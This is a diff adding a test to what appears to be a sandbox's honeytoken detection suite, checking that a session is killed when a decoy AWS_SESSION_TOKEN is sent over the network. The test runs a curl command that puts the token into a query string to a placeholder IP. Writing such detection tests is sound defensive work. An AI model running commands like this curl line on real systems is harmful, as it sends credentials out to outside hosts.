@@ -171,3 +171,23 @@ def test_gc_removes_unrecorded_orphans_but_not_fresh_ones(
                        check=False, capture_output=True)
         subprocess.run(["ip", "netns", "del", f"sbx-{key}"], timeout=10, check=False,
                        capture_output=True)
+
+
+def test_honeytoken_sent_over_the_network_kills(test_dir: Path,
+                                                fake_internet: FakeInternet) -> None:
+    """The decoy env token in a plaintext request to an allowed host: the command text
+    shows only a variable name; the gateway's first bytes show the value."""
+    prof = test_dir / "ht-net.toml"
+    prof.write_text(PROFILE.replace('allow = ["good.test:443", "ssh.test:22"]',
+                                    'allow = ["203.0.113.99:80"]')
+                    + '[honeytokens]\nenv_token = "AWS_SESSION_TOKEN"\n')
+    box = Sandbox(profile=str(prof), workdir=make_workspace(test_dir / "w")).start()
+    try:
+        with contextlib.suppress(SessionClosed):
+            box.run('curl -s --noproxy "*" --max-time 5 "http://203.0.113.99/?t=$AWS_SESSION_TOKEN"',
+                    timeout=30)
+        hits = wait_for(lambda: Store().events(box.id, kinds=("honeytoken.touched",)), 5)
+        assert hits, Store().events(box.id)
+        assert wait_for(lambda: Store().get_session(box.id)["state"] == "killed", 3)
+    finally:
+        box.close()
